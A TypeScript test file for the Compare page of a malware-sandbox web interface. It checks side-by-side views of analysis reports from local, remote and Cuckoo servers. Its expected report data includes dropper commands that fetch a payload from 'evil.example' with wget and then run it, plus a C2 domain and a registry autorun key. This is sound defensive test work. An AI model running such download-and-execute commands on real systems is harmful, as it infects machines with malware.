// @vitest-environment jsdom
// The Compare page and its entry points against real services: this computer's, a second one with
// an API token saved as a remote connection (reached through the local proxy), and a Cuckoo 2.0.6
// server (no /tasks/summary). Reports are made by the services' engines from analysis folders
// (test/compare-analyses.ts). The URL names both tasks and is what the page reads; the Tasks page
// picks two rows, across connections; the Task page's "Compare with…" picks another task. A side
// can be a file too: a task's `all` archive as the service makes it, or a Cuckoo report.json.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { JSX } from 'react'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { act, cleanup, render, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { QueryClient, QueryClientProvider } from '@tanstack/react-query'
import { MemoryRouter, Route, Routes, useLocation } from 'react-router'
import { startHarness, type Harness } from '../../../../test/service-harness'
import { dropperRuns, reportedAnalysis } from '../../../../test/compare-analyses'
import { setLocalApiBase } from '../api/http'
import { useUi } from '../state/ui'
import { ComparePage } from '../pages/Compare'
import { TasksPage } from '../pages/Tasks'
import { TaskPage } from '../pages/Task'
import { usePicked } from './refs'
import { CUCKOO_207 } from '../../../../test/fixtures/cuckoo-2.0.7-report'

const TOKEN = 'compare-remote-token'
let local: Harness
let remote: Harness
let cuckoo: Server
let cuckooUrl: string
let lab: number
let old: number
const ids = { a: 0, b: 0, big: 0, pending: 0 }

/**
 * A Cuckoo 2.0.6 server, as far as the page reads it: its status, list, one reported task and its
 * full report; no /tasks/summary (an HTML 404, as Flask answers a route it does not have). A
 * stand-in, because Cuckoo (Python 2.7 and its packages) cannot be installed here.
 */
function startCuckoo(): Promise<string> {
  const task = { id: 5, category: 'file', target: '/tmp/cuckoo-tmp/invoice.exe', status: 'reported', added_on: '2018-01-01 12:00:00', completed_on: '2018-01-01 12:03:00',
    started_on: '2018-01-01 12:00:10', machine: 'win7', package: 'exe', platform: 'windows', options: '', priority: 1, timeout: 120, errors: [], guest: {}, sample: {}, tags: [] }
  cuckoo = createServer((req, res) => {
    const send = (status: number, body: unknown) => { res.writeHead(status, { 'Content-Type': 'application/json' }); res.end(JSON.stringify(body)) }
    const url = req.url ?? ''
    if (url === '/cuckoo/status') return send(200, { version: '2.0.6', hostname: 'old-cuckoo', tasks: { total: 1, pending: 0, running: 0, completed: 0, reported: 1 } })
    if (url.startsWith('/tasks/list')) return send(200, { tasks: [task] })
    if (url === '/tasks/view/5') return send(200, { task })
    if (url === '/tasks/report/5') return send(200, CUCKOO_207)
    res.writeHead(404, { 'Content-Type': 'text/html' })
    res.end('<!DOCTYPE HTML><title>404 Not Found</title><h1>Not Found</h1>')
  })
  return new Promise((resolve) => cuckoo.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(cuckoo.address() as AddressInfo).port}`)))
}

async function saveConnection(name: string, url: string, token?: string): Promise<number> {
  const res = await fetch(`${local.url}/aviary/connections`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name, url, token }) })
  const body = (await res.json()) as { connection?: { id: number } }
  if (!body.connection) throw new Error(`connection ${name}: ${res.status} ${JSON.stringify(body)}`)
  return body.connection.id
}

beforeAll(async () => {
  ;[local, remote, cuckooUrl] = await Promise.all([
    startHarness({ engine: true, machines: { machines: [] } }),
    startHarness({ engine: true, machines: { machines: [] }, apiToken: TOKEN }),
    startCuckoo()
  ])
  const runs = dropperRuns({ b: { Authorization: `Bearer ${TOKEN}` } })
  ;[ids.a, ids.b] = await Promise.all([reportedAnalysis(local, runs.a), reportedAnalysis(remote, runs.b)])
  // 100,000 processes under one root, each with its own command line.
  const many = Array.from({ length: 100_000 }, (_, i) => ({ pid: 1000 + i, ppid: 999, command_line: `worker --n ${i}`, exe: '/tmp/worker' }))
  ids.big = await reportedAnalysis(local, { name: 'forker', sample: 'forker', processes: [{ pid: 999, ppid: 1, command_line: '/tmp/forker', exe: '/tmp/forker' }, ...many] })
  const pending = await fetch(`${local.url}/tasks/create/url`, { method: 'POST', body: new URLSearchParams({ url: 'http://later.example/', platform: 'none-here' }) })
  ids.pending = ((await pending.json()) as { task_id: number }).task_id
  lab = await saveConnection('lab', remote.url, TOKEN)
  old = await saveConnection('old cuckoo', cuckooUrl)
  // A dispatcher, saved as the probe would have saved one (none runs here: the page must not ask it for reports).
  local.sql("INSERT INTO connections (id, name, url, kind, token, created_on) VALUES (900, 'dist', 'http://127.0.0.1:9', 'dispatcher', NULL, '2026-01-01 00:00:00')")
  setLocalApiBase(local.url)
  // jsdom has no layout: the task list's grid gets a real window's height, so its rows are drawn.
  Object.defineProperty(HTMLElement.prototype, 'clientHeight', { configurable: true, get() { return this.getAttribute('role') === 'grid' ? 640 : 0 } })
}, 180_000)
afterEach(() => {
  cleanup()
  usePicked.getState().clear()
  act(() => useUi.getState().setConnection(null))
})
afterAll(async () => {
  cuckoo?.closeAllConnections() // the local proxy's keep-alive sockets would hold close() open
  await Promise.all([local?.stop(), remote?.stop(), new Promise((r) => cuckoo?.close(r))])
})

function Where(): JSX.Element {
  const l = useLocation()
  return <output data-testid="location">{l.pathname + l.search}</output>
}

function renderAt(at: string) {
  const qc = new QueryClient({ defaultOptions: { queries: { retry: false } } })
  return render(
    <QueryClientProvider client={qc}>
      <MemoryRouter initialEntries={[at]}>
        <Routes>
          <Route path="/compare" element={<ComparePage />} />
          <Route path="/tasks" element={<TasksPage />} />
          <Route path="/tasks/:id" element={<TaskPage />} />
        </Routes>
        <Where />
      </MemoryRouter>
    </QueryClientProvider>
  )
}

const location = () => screen.getByTestId('location').textContent ?? ''
const section = (name: string) => screen.getByRole('region', { name })
const table = (name: string, label: string) => within(section(name)).getByRole('table', { name: label })
/** The row of a table whose cells include `text`, and its mark. */
function markOf(table: HTMLElement, text: string): string | null {
  const cell = within(table).getAllByText(text)[0]
  return cell?.closest('tr')?.querySelector('[data-where]')?.getAttribute('data-where') ?? null
}

describe('the Compare page', () => {
  it('compares a local task with one of a remote Aviary: every part marked by side, from the URL', async () => {
    renderAt(`/compare?a=local:${ids.a}&b=${lab}:${ids.b}`)
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 })
    const a = section('Analysis A')
    const b = section('Analysis B')
    expect(within(a).getByText('This computer')).toBeTruthy()
    expect(within(b).getByText('lab')).toBeTruthy()
    expect(within(b).getByText(/From the report summary/)).toBeTruthy()

    const sigs = table('Signatures', 'signatures')
    expect(markOf(sigs, 'contacts_bare_ip')).toBe('b')
    expect(markOf(sigs, 'drops_executable')).toBe('both')
    // ATT&CK ids link to their pages.
    expect(within(sigs).getAllByRole('link', { name: 'T1071' })[0]?.getAttribute('href')).toBe('https://attack.mitre.org/techniques/T1071/')
    expect(markOf(table('ATT&CK techniques', 'ATT&CK techniques'), 'T1071')).toBe('b')

    expect(markOf(table('By name', 'process names'), 'curl')).toBe('a')
    expect(markOf(table('By name', 'process names'), 'wget')).toBe('b')
    expect(markOf(table('By command line', 'command lines'), 'sh -c chmod +x /tmp/payload && /tmp/payload')).toBe('both')
    expect(markOf(table('Domains', 'domains'), 'c2.example')).toBe('b')
    expect(markOf(table('IP addresses', 'IP addresses'), '45.33.32.156')).toBe('b')
    expect(markOf(table('HTTP requests', 'HTTP requests'), 'http://evil.example/payload')).toBe('a')
    const dropped = table('Dropped files', 'dropped files')
    expect(within(dropped).getAllByText('/tmp/payload')).toHaveLength(2) // the shared file, its path on each side
    expect(within(section('Dropped files')).getAllByTestId('tally')[0]!.textContent).toBe('0 only in A · 1 only in B · 1 in both')
    expect(markOf(table('ELF libraries', 'ELF libraries'), 'libselinux.so.1')).toBe('b')
    // What the runs touched: files by path and by name, the command lines they ran; a Linux run has no mutexes.
    expect(markOf(table('Files', 'file paths'), '/tmp/payload')).toBe('both')
    expect(markOf(table('Files', 'file paths'), '/tmp/.cache/notes.txt')).toBe('b')
    expect(markOf(table('File names', 'file names'), 'notes.txt')).toBe('b')
    expect(markOf(table('Command lines run', 'command lines run'), 'wget -q http://evil.example/payload2 -O /tmp/payload')).toBe('b')
    expect(within(section('Mutexes')).getByText('No mutexes in either analysis.')).toBeTruthy()
    expect(within(section('Registry keys')).getByText('No registry keys in either analysis.')).toBeTruthy()
    expect(within(section('Static analysis')).getAllByTestId('tally')[0]!.textContent).toMatch(/differ/)

    // Only differences: what both share goes; the URL says so, for a bookmark.
    const user = userEvent.setup()
    await user.click(screen.getByRole('checkbox', { name: 'Only differences' }))
    expect(location()).toContain('diff=1')
    expect(within(section('Signatures')).queryByText('drops_executable')).toBeNull()
    expect(within(section('Signatures')).getByText('contacts_bare_ip')).toBeTruthy()

    // Swap: B becomes A.
    await user.click(screen.getByRole('button', { name: 'Swap A and B' }))
    expect(location()).toBe(`/compare?a=${lab}%3A${ids.b}&b=local%3A${ids.a}&diff=1`)
    await waitFor(() => expect(markOf(table('Signatures', 'signatures'), 'contacts_bare_ip')).toBe('a'))
  })

  it('compares with a Cuckoo 2.0.6 server, which has no summary: its full report is read', async () => {
    renderAt(`/compare?a=local:${ids.a}&b=${old}:5`)
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 })
    expect(within(section('Analysis B')).getByText(/From the full report/)).toBeTruthy()
    expect(markOf(table('By name', 'process names'), 'cmd.exe')).toBe('b')
    expect(markOf(table('Signatures', 'signatures'), 'persistence_autorun')).toBe('b')
    expect(markOf(table('PE imports', 'PE imports'), 'advapi32.dll!RegSetValueExA')).toBe('b')
    expect(markOf(table('Files', 'file paths'), 'C:\\Users\\cuckoo\\AppData\\Local\\Temp\\upd.tmp')).toBe('b')
    expect(markOf(table('Mutexes', 'mutexes'), 'Global\\updater-singleton')).toBe('b')
    expect(markOf(table('Registry keys', 'registry keys'), 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater')).toBe('b')
    expect(within(section('Registry keys')).getAllByTestId('tally')[0]!.textContent).toBe('0 only in A · 1 only in B · 0 in both')
    expect(markOf(table('ELF libraries', 'ELF libraries'), 'libc.so.6')).toBe('a')
    expect(within(section('Static analysis')).getByRole('table', { name: 'static facts' }).textContent).toContain('PE32 executable (GUI) Intel 80386')
  })

  it('a report of 100,000 processes: lists capped, long tables virtual, said what was left out', async () => {
    renderAt(`/compare?a=local:${ids.big}&b=local:${ids.a}`)
    await screen.findByTestId('score-compare', {}, { timeout: 60_000 })
    expect(within(section('Processes')).getByText(/A: 100,001 processes/)).toBeTruthy()
    const lines = section('By command line')
    expect(within(lines).getAllByTestId('tally')[0]!.textContent).toBe('20,000 only in A · 4 only in B · 0 in both')
    // A scroll box of a window of rows, never the 20,004.
    expect(within(lines).getByLabelText(/command lines \(20,004 rows, scrollable\)/)).toBeTruthy()
    expect(lines.querySelectorAll('tbody tr').length).toBeLessThan(100)
    expect(within(section('Left out')).getByText(/Command lines: the first 20,000 distinct entries are compared \(80,001 more left out\)/)).toBeTruthy()
  }, 90_000)

  it('says why a side cannot be compared: no report yet, a connection not saved, a dispatcher, a link that names no task', async () => {
    renderAt(`/compare?a=local:${ids.pending}&b=999:1`)
    expect(await within(section('Analysis A')).findByText(/has no report yet/)).toBeTruthy()
    expect(await within(section('Analysis B')).findByText(/Connection 999 is not saved on this computer/)).toBeTruthy()
    expect(screen.queryByTestId('score-compare')).toBeNull()
    cleanup()
    renderAt(`/compare?a=900:1&b=local:${ids.a}`)
    expect(await within(section('Analysis A')).findByText(/is a dispatcher: it keeps no reports to compare/)).toBeTruthy()
    // Nor is it offered in the picker.
    await userEvent.setup().click(within(section('Analysis A')).getByRole('button', { name: 'Change…' }))
    const picker = screen.getByRole('group', { name: 'Pick task A' })
    await waitFor(() => expect(within(picker).getAllByRole('option').map((o) => o.textContent)).toEqual(['This computer', 'lab', 'old cuckoo']))
    cleanup()
    renderAt('/compare?a=local:x&b=local:1')
    expect(screen.getByRole('alert').textContent).toMatch(/Not a task in this link: a=local:x/)
  })

  it('takes a side from a file: the `all` archive of a task, read in the page; after a reload it asks for the file again', async () => {
    const user = userEvent.setup()
    const archive = new Uint8Array(await (await fetch(`${local.url}/tasks/report/${ids.a}/all`)).arrayBuffer())
    renderAt(`/compare?a=${lab}:${ids.b}`)
    const picker = await screen.findByRole('group', { name: 'Pick task B' })
    // The picker lists the remote's tasks first. (A request the page gives up on before the remote
    // answers keeps the local proxy's exchange open until its idle timeout, which holds the
    // service's stop: a fault of the proxy route, reported; here the list is let arrive.)
    await within(picker).findByText('No reported tasks on this server.', {}, { timeout: 10_000 }) // its one task is A
    await user.upload(within(picker).getByLabelText('Report file'), new File([archive], 'all.tar.bz2', { type: 'application/x-bzip2' }))
    expect(location()).toBe(`/compare?a=${lab}%3A${ids.b}&b=file`)
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 })
    expect(within(section('Analysis B')).getByText('all.tar.bz2')).toBeTruthy()
    expect(markOf(table('By name', 'process names'), 'curl')).toBe('b')
    expect(markOf(table('Signatures', 'signatures'), 'contacts_bare_ip')).toBe('a')
    cleanup()
    renderAt(`/compare?a=${lab}:${ids.b}&b=file`)
    expect(await within(section('Analysis B')).findByText(/was a file opened in the page: open it again/)).toBeTruthy()
    expect(screen.getByRole('group', { name: 'Pick task B' })).toBeTruthy()
    expect(screen.queryByRole('alert')).toBeNull()
    await screen.findByText('No reported tasks on this server.', {}, { timeout: 10_000 })
    // A plain report.json (Cuckoo 2.0.7's) works too.
    await user.upload(screen.getByLabelText('Report file'), new File([JSON.stringify(CUCKOO_207)], 'report.json', { type: 'application/json' }))
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 })
    expect(markOf(table('By name', 'process names'), 'cmd.exe')).toBe('b')
  })

  it('asks for a side the URL lacks: a task of another server, picked from its list', async () => {
    const user = userEvent.setup()
    renderAt(`/compare?a=local:${ids.a}`)
    const picker = await screen.findByRole('group', { name: 'Pick task B' })
    await waitFor(() => expect(within(picker).getAllByRole('option').map((o) => o.textContent)).toEqual(['This computer', 'lab', 'old cuckoo']))
    // This computer's reported tasks, searched by the service (A itself is not offered).
    const listed = async () => (await within(picker).findAllByRole('button', { name: /^Compare with task \d+(?!\d)/ })).map((b) => /^Compare with task \d+/.exec(b.textContent ?? '')?.[0])
    expect(await listed()).toEqual([`Compare with task ${ids.big}`])
    await user.type(within(picker).getByRole('searchbox'), 'no-such-sample')
    expect(await within(picker).findByText('No reported tasks match.')).toBeTruthy()
    await user.clear(within(picker).getByRole('searchbox'))
    await user.selectOptions(within(picker).getByLabelText('Server to compare from'), 'lab')
    await user.click(await within(picker).findByRole('button', { name: new RegExp(`^Compare with task ${ids.b}(?!\\d)`) }, { timeout: 10_000 }))
    expect(location()).toBe(`/compare?a=local%3A${ids.a}&b=${lab}%3A${ids.b}`)
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 })
  })
})

describe('entry points', () => {
  it('the task list: pick a row on this computer and one on a remote, then Compare', async () => {
    const user = userEvent.setup()
    renderAt('/tasks')
    const compare = screen.getByRole('button', { name: /^Compare/ })
    expect((compare as HTMLButtonElement).disabled).toBe(true)
    await user.click(await screen.findByRole('checkbox', { name: `Compare task ${ids.a}` }, { timeout: 10_000 }))
    expect(compare.textContent).toBe('Compare (1 of 2)')
    act(() => useUi.getState().setConnection(lab))
    // Space picks the selected row.
    const grid = await screen.findByRole('grid', { name: 'Tasks' })
    await waitFor(() => expect(screen.getByTestId('task-count').textContent).toBe('1 task'))
    await waitFor(() => expect(grid.querySelector('#task-row-0')?.getAttribute('data-task-id')).toBe(String(ids.b)))
    await user.click(within(grid.querySelector('#task-row-0') as HTMLElement).getByText('dropper'))
    grid.focus()
    await user.keyboard(' ')
    expect(within(screen.getByRole('group', { name: 'Compare' })).getAllByTestId('picked').map((p) => p.textContent)).toEqual([`task ${ids.a} · This computer×`, `task ${ids.b} · lab×`])
    await user.click(screen.getByRole('button', { name: 'Compare (2 of 2)' }))
    expect(location()).toBe(`/compare?a=local%3A${ids.a}&b=${lab}%3A${ids.b}`)
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 }) // (see the file test on requests given up)
  })

  it('a task\'s page: Compare with… is disabled before a report, and picks another task by id', async () => {
    const user = userEvent.setup()
    renderAt(`/tasks/${ids.pending}`)
    const disabled = await screen.findByRole('button', { name: 'Compare with…' }, { timeout: 10_000 })
    expect((disabled as HTMLButtonElement).disabled).toBe(true)
    expect(disabled.getAttribute('title')).toMatch(/no report yet/)
    cleanup()
    renderAt(`/tasks/${ids.a}`)
    const button = await screen.findByRole('button', { name: 'Compare with…' }, { timeout: 10_000 })
    await waitFor(() => expect((button as HTMLButtonElement).disabled).toBe(false))
    await user.click(button)
    const picker = screen.getByRole('group', { name: `Compare task ${ids.a} with` })
    await within(picker).findByRole('option', { name: 'old cuckoo' })
    await user.selectOptions(within(picker).getByLabelText('Server to compare from'), 'old cuckoo')
    // The Cuckoo server's reported task is listed; an id can be typed too.
    expect(await within(picker).findByRole('button', { name: /^Compare with task 5(?!\d)/ })).toBeTruthy()
    await user.type(within(picker).getByLabelText('Task id'), '5')
    await user.click(within(picker).getByRole('button', { name: 'Use' }))
    expect(location()).toBe(`/compare?a=local%3A${ids.a}&b=${old}%3A5`)
    await screen.findByTestId('score-compare', {}, { timeout: 20_000 })
  })
})
